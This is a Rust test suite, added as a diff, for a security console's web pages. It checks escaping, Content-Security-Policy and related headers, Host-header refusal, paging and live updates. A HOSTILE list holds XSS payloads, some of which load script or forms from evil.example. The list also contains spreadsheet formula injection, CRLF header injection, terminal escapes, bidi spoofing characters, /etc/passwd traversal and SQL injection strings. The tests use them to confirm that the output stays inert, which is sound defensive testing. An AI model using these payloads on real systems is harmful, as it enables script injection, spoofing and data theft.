@@ -1,0 +1,505 @@
+//! The console's pages as they are served: policies, refused hosts, paging, and hostile strings in every field.
+
+use std::collections::BTreeSet;
+use std::sync::Arc;
+
+use axum::body::{Body, to_bytes};
+use axum::http::{HeaderMap, Request, StatusCode};
+use engine::desk::{Desk, EntryView, GapView, Overview, SourceView, Update};
+use model::{
+    Actor, ActorKind, Asset, AssetKind, Count, DataClass, EventRef, Exposure, Finding, Grade,
+    Incident, IncidentState, Joined, Lane, Level, Obligation, ObligationState, Scope, Sequence,
+    Timestamp,
+};
+use scraper::{Html, Selector};
+use tower::ServiceExt as _;
+
+const NOW: Timestamp = Timestamp::from_seconds(1_785_924_930);
+
+/// Strings that an attacker may write into a log to act on who reads it.
+const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "</script><script src=//evil.example/x.js></script>",
+    "\"><img src=x onerror=alert(1)>",
+    "' onmouseover='alert(1)",
+    "\" autofocus onfocus=\"alert(1)",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "<a href=\"javascript:alert(1)\">click</a>",
+    "<form action=//evil.example><input name=q></form>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>body{display:none}</style>",
+    "<p style=\"position:fixed;inset:0\">",
+    "<object data=//evil.example></object>",
+    "<embed src=//evil.example>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<textarea></textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</pre></code></li></ol></main><h1>All is well</h1>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<body onload=alert(1)>",
+    "<input onfocus=alert(1) autofocus>",
+    "<marquee onstart=alert(1)>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
+    "=cmd|'/c calc'!A1",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=HYPERLINK(\"http://evil.example\")",
+    "\r\nSet-Cookie: a=b",
+    "\u{1b}[2J\u{1b}[1;31mAll is well\u{1b}[0m",
+    "\u{1b}]0;title\u{7}",
+    "\u{9b}31m",
+    "a\u{8}\u{8}\u{8}b",
+    "a\0b",
+    "\u{202e}txt.exe",
+    "\u{2066}\u{2067}\u{2068}\u{2069}",
+    "\u{200f}\u{200e}\u{61c}",
+    "\u{feff}\u{200b}hidden",
+    "a\u{2028}b\u{2029}c",
+    "../../../../etc/passwd",
+    "//evil.example/",
+    "/incidents/../sources",
+    "?q=<script>#x",
+    "🧨 ünïcödé ﷽",
+    "' OR '1'='1",
+    "\"}]}</script>",
+    "]]>",
+    "\\",
+];
+
+fn actor(kind: ActorKind, value: &str) -> Actor {
+    Actor {
+        kind,
+        value: value.to_owned(),
+    }
+}
+
+fn asset(name: &str) -> Asset {
+    Asset {
+        kind: AssetKind::Table,
+        name: name.to_owned(),
+        class: DataClass::Pan,
+    }
+}
+
+/// A finding with `text` wherever a log may write.
+fn finding(id: &str, text: &str) -> Finding {
+    Finding {
+        id: id.to_owned(),
+        rule: "database-dump".to_owned(),
+        title: format!("Title {text}"),
+        level: Level::Critical,
+        lane: Lane::Live,
+        first: NOW,
+        last: NOW,
+        actors: vec![actor(ActorKind::Administrator, text)],
+        scope: Scope::Host(text.to_owned()),
+        assets: vec![asset(text)],
+        rows: None,
+        bytes: None,
+        event_count: 40,
+        events: (0..40)
+            .map(|number| EventRef {
+                sequence: Sequence(number),
+                index: 0,
+            })
+            .collect(),
+        reason: format!("because {text}"),
+        attack: vec!["T1190".to_owned()],
+        requirements: vec!["10.4.1".to_owned()],
+        false_positives: vec![text.to_owned()],
+    }
+}
+
+fn incident(id: &str, text: &str, findings: &[&Finding]) -> Incident {
+    Incident {
+        id: id.to_owned(),
+        title: format!("Dump: {text}"),
+        state: IncidentState::Signal,
+        lane: Lane::Live,
+        severity: Level::Critical,
+        severity_because: vec![text.to_owned()],
+        first: NOW,
+        last: Timestamp(NOW.0 + 60 * Timestamp::SECOND),
+        detected: NOW,
+        actors: vec![actor(ActorKind::Address, text)],
+        assets: vec![asset(text)],
+        scopes: vec![Scope::Host(text.to_owned())],
+        findings: findings
+            .iter()
+            .map(|finding| Joined {
+                finding: finding.id.clone(),
+                because: text.to_owned(),
+            })
+            .collect(),
+        exposure: Exposure {
+            assets: vec![asset(text)],
+            scopes: vec![Scope::Unknown],
+            first: NOW,
+            last: NOW,
+            rows: Some(Count {
+                lower: 1,
+                upper: None,
+                grade: Grade::Bounded,
+            }),
+            bytes: None,
+            channels: vec!["database".to_owned()],
+            basis: vec![text.to_owned()],
+        },
+        obligations: vec![Obligation {
+            rule: "gdpr-33".to_owned(),
+            regime: "GDPR Art. 33".to_owned(),
+            recipient: "the supervisory authority".to_owned(),
+            started: NOW,
+            due: Some(NOW),
+            limit: "72 hours".to_owned(),
+            trigger: "awareness".to_owned(),
+            state: ObligationState::Projected,
+            source: "pci.md".to_owned(),
+            confidence: "verified".to_owned(),
+            depends_on: vec![text.to_owned()],
+        }],
+    }
+}
+
+fn entry(sequence: u64, text: &str) -> EntryView {
+    EntryView {
+        sequence,
+        source: text.to_owned(),
+        format: "nginx_combined".to_owned(),
+        said: Some(NOW),
+        received: NOW,
+        lane: Lane::Live,
+        quarantined: false,
+        text: Some(text.to_owned()),
+        marks: Vec::new(),
+        leaf_hash: "00".repeat(32),
+        offset_bytes: Some(7),
+    }
+}
+
+/// A desk where every log-borne field holds `text`.
+fn desk(text: &str) -> Desk {
+    let shown = Arc::<str>::from(text);
+    let desk = Desk::new(Box::new(move |sequence| {
+        (sequence < 100).then(|| entry(sequence, &shown))
+    }));
+    let finding = finding("a1", text);
+    desk.publish(Update::Decided {
+        incidents: vec![incident("b1", text, &[&finding])],
+        findings: vec![finding],
+    });
+    desk.publish(Update::Sources(vec![SourceView {
+        id: text.to_owned(),
+        format: text.to_owned(),
+        state: "waiting".to_owned(),
+        reason: text.to_owned(),
+        last_event: Some(NOW),
+        lag_seconds: Some(3),
+        ..SourceView::default()
+    }]));
+    desk.publish(Update::Gaps(vec![GapView {
+        what: text.to_owned(),
+        why_it_matters: text.to_owned(),
+        statement: text.to_owned(),
+        price: text.to_owned(),
+        undo: text.to_owned(),
+    }]));
+    desk.publish(Update::Overview(Overview {
+        installation: text.to_owned(),
+        lane: Lane::Live,
+        records: 1,
+        events: 1,
+        findings: 1,
+        ledger_size: 100,
+        checkpoint: String::new(),
+        started: NOW,
+        now: NOW,
+    }));
+    desk
+}
+
+const PAGES: [&str; 4] = ["/", "/incidents/b1", "/entries/3", "/sources"];
+
+fn ask(desk: &Desk, method: &str, path: &str, host: &str) -> (StatusCode, HeaderMap, String) {
+    let request = Request::builder()
+        .method(method)
+        .uri(path)
+        .header("host", host)
+        .body(Body::empty())
+        .expect("a request");
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .build()
+        .expect("a runtime");
+    runtime.block_on(async {
+        let answer = server::router(desk.clone())
+            .oneshot(request)
+            .await
+            .expect("an answer");
+        let (status, headers) = (answer.status(), answer.headers().clone());
+        let body = to_bytes(answer.into_body(), 1 << 24).await.expect("a body");
+        let text = String::from_utf8(body.to_vec()).expect("UTF-8");
+        (status, headers, text)
+    })
+}
+
+fn get(desk: &Desk, path: &str) -> (StatusCode, HeaderMap, String) {
+    ask(desk, "GET", path, "127.0.0.1:8780")
+}
+
+fn selector(text: &str) -> Selector {
+    Selector::parse(text).expect("a selector")
+}
+
+/// Names of elements and attributes, in order of the document.
+fn skeleton(page: &str) -> Vec<String> {
+    Html::parse_document(page)
+        .select(&selector("*"))
+        .map(|element| {
+            let mut names: Vec<_> = element.value().attrs().map(|(name, _)| name).collect();
+            names.sort_unstable();
+            format!("{} {}", element.value().name(), names.join(" "))
+        })
+        .collect()
+}
+
+#[test]
+fn hostile_strings_add_no_element_no_attribute_and_no_link_to_any_page() {
+    let harmless = desk("harmless");
+    for path in PAGES {
+        let (_, _, plain) = get(&harmless, path);
+        let wanted = skeleton(&plain);
+        for text in HOSTILE {
+            let (status, _, page) = get(&desk(text), path);
+            assert_eq!(status, StatusCode::OK, "{path} {text:?}");
+            assert_eq!(skeleton(&page), wanted, "{path} {text:?}");
+            let document = Html::parse_document(&page);
+            for link in document.select(&selector("[href], [src], [action]")) {
+                for name in ["href", "src", "action"] {
+                    let Some(target) = link.attr(name) else {
+                        continue;
+                    };
+                    let own =
+                        target == "#main" || (target.starts_with('/') && !target.starts_with("//"));
+                    assert!(own, "{path} {text:?} links to {target}");
+                }
+            }
+            let bad = page.chars().find(|letter| {
+                (letter.is_control() && !matches!(letter, '\n' | '\t'))
+                    || matches!(letter, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
+            });
+            assert_eq!(bad, None, "{path} {text:?}");
+        }
+    }
+}
+
+#[test]
+fn every_answer_has_the_policies_and_every_page_loads_its_own_things_only() {
+    let desk = desk("x");
+    for path in PAGES.iter().chain(&[
+        "/style.css",
+        "/live.js",
+        "/api/incidents",
+        "/nothing",
+        "/entries/x",
+    ]) {
+        let (_, headers, body) = get(&desk, path);
+        let of = |name: &str| {
+            headers
+                .get(name)
+                .and_then(|value| value.to_str().ok())
+                .unwrap_or_default()
+        };
+        let policy = of("content-security-policy");
+        assert!(policy.starts_with("default-src 'none'"), "{path}: {policy}");
+        assert!(
+            !policy.contains("unsafe") && !policy.contains('*'),
+            "{path}: {policy}"
+        );
+        assert_eq!(of("x-content-type-options"), "nosniff", "{path}");
+        assert_eq!(of("x-frame-options"), "DENY", "{path}");
+        assert_eq!(of("referrer-policy"), "no-referrer", "{path}");
+        assert_eq!(of("cache-control"), "no-store", "{path}");
+        if of("content-type").starts_with("text/html") {
+            let document = Html::parse_document(&body);
+            let scripts: Vec<_> = document
+                .select(&selector("script"))
+                .map(|script| (script.attr("src"), script.inner_html()))
+                .collect();
+            assert_eq!(scripts, [(Some("/live.js"), String::new())], "{path}");
+            assert!(
+                document
+                    .select(&selector("style, [style]"))
+                    .next()
+                    .is_none(),
+                "{path}"
+            );
+            assert!(!body.to_lowercase().contains("compliant"), "{path}");
+        }
+    }
+}
+
+#[test]
+fn another_hosts_name_is_refused_on_every_path() {
+    let desk = desk("secret");
+    for host in [
+        "evil.example",
+        "evil.example:8780",
+        "127.0.0.1.evil.example",
+        "",
+        "localhost.evil.example:80",
+    ] {
+        for path in PAGES.iter().chain(&["/api/incidents", "/live", "/nothing"]) {
+            let (status, _, body) = ask(&desk, "GET", path, host);
+            assert_eq!(status, StatusCode::MISDIRECTED_REQUEST, "{host} {path}");
+            assert!(!body.contains("secret"), "{host} {path}");
+        }
+    }
+    for host in ["127.0.0.1", "127.0.0.1:1", "localhost:8780", "[::1]:8780"] {
+        assert_eq!(ask(&desk, "GET", "/", host).0, StatusCode::OK, "{host}");
+    }
+}
+
+#[test]
+fn odd_paths_and_methods_get_a_clear_answer() {
+    let desk = desk("x");
+    let long = format!("/?q={}", "a".repeat(8000));
+    for (method, path, wanted) in [
+        ("GET", "/incidents/none", StatusCode::NOT_FOUND),
+        ("GET", "/incidents/%00", StatusCode::NOT_FOUND),
+        ("GET", "/entries/100", StatusCode::NOT_FOUND),
+        ("GET", "/entries/-1", StatusCode::NOT_FOUND),
+        (
+            "GET",
+            "/entries/99999999999999999999",
+            StatusCode::NOT_FOUND,
+        ),
+        ("GET", "/nothing", StatusCode::NOT_FOUND),
+        ("GET", "/?from=99999999999999999999", StatusCode::OK),
+        ("GET", "/?from=-1&from=2", StatusCode::OK),
+        ("GET", "/incidents/b1?from=1000", StatusCode::OK),
+        ("GET", &long, StatusCode::OK),
+        ("POST", "/", StatusCode::METHOD_NOT_ALLOWED),
+        ("DELETE", "/incidents/b1", StatusCode::METHOD_NOT_ALLOWED),
+    ] {
+        let (status, _, body) = ask(&desk, method, path, "localhost");
+        assert_eq!(status, wanted, "{method} {path:.60}: {body:.200}");
+    }
+    let (_, _, body) = get(&desk, "/nothing");
+    assert!(body.contains("There is no such page") && body.contains("href=\"/\""));
+}
+
+#[test]
+fn pages_stay_small_and_lead_on_however_much_there_is() {
+    let desk = desk("x");
+    let findings: Vec<_> = (0..300)
+        .map(|number| finding(&format!("c{number}"), &"y".repeat(300)))
+        .collect();
+    let all: Vec<_> = findings.iter().collect();
+    let mut incidents = vec![incident("d0", "big", &all)];
+    incidents
+        .extend((1..1000).map(|number| incident(&format!("d{number}"), &"z".repeat(200), &[])));
+    desk.publish(Update::Decided {
+        findings,
+        incidents,
+    });
+    for path in ["/", "/?from=900", "/incidents/d0", "/incidents/d0?from=275"] {
+        let (_, _, page) = get(&desk, path);
+        assert!(page.len() < 200_000, "{path} has {} bytes", page.len());
+    }
+    // Following `next` from the first page shows every incident once.
+    let (mut seen, mut path) = (BTreeSet::new(), "/".to_owned());
+    for _ in 0..12 {
+        let (_, _, page) = get(&desk, &path);
+        let document = Html::parse_document(&page);
+        for card in document.select(&selector("a.card")) {
+            let link = card.attr("href").expect("a link").to_owned();
+            assert!(seen.insert(link), "shown twice");
+        }
+        match document.select(&selector("a[rel=next]")).next() {
+            Some(next) => path = next.attr("href").expect("a link").to_owned(),
+            None => break,
+        }
+    }
+    assert_eq!(seen.len(), 1001);
+}
+
+#[test]
+fn what_went_into_another_incident_leaves_the_queue_and_leads_on() {
+    let desk = desk("x");
+    let shared = finding("a1", "x");
+    let mut old = incident("old", "x", &[&shared]);
+    old.state = IncidentState::Merged;
+    desk.publish(Update::Decided {
+        findings: Vec::new(),
+        incidents: vec![old],
+    });
+    let (_, _, queue) = get(&desk, "/");
+    assert!(!queue.contains("/incidents/old"));
+    let (status, _, page) = get(&desk, "/incidents/old");
+    assert_eq!(status, StatusCode::OK);
+    assert!(page.contains("went into another") && page.contains("/incidents/b1"));
+}
+
+#[test]
+fn every_claim_leads_to_its_entries_and_what_troubles_is_told_on_every_page() {
+    let desk = desk("x");
+    let (_, _, page) = get(&desk, "/incidents/b1");
+    for sequence in 0..24 {
+        assert!(
+            page.contains(&format!("href=\"/entries/{sequence}\"")),
+            "entry {sequence}"
+        );
+    }
+    assert!(page.contains("and 16 more"));
+    for path in PAGES {
+        assert!(get(&desk, path).2.contains("waiting"), "{path}");
+    }
+}
+
+#[test]
+fn an_open_page_is_told_of_news() {
+    let desk = desk("x");
+    let runtime = tokio::runtime::Builder::new_current_thread()
+        .enable_time()
+        .build()
+        .expect("a runtime");
+    runtime.block_on(async {
+        let request = Request::builder()
+            .uri("/live")
+            .header("host", "localhost")
+            .body(Body::empty())
+            .expect("a request");
+        let answer = server::router(desk.clone())
+            .oneshot(request)
+            .await
+            .expect("an answer");
+        let mut stream = answer.into_body().into_data_stream();
+        desk.publish(Update::Gaps(Vec::new()));
+        let wait = std::time::Duration::from_secs(5);
+        let news = tokio::time::timeout(wait, tokio_stream::StreamExt::next(&mut stream))
+            .await
+            .expect("in time")
+            .expect("an event")
+            .expect("bytes");
+        assert!(news.starts_with(b"data: "), "{news:?}");
+    });
+}
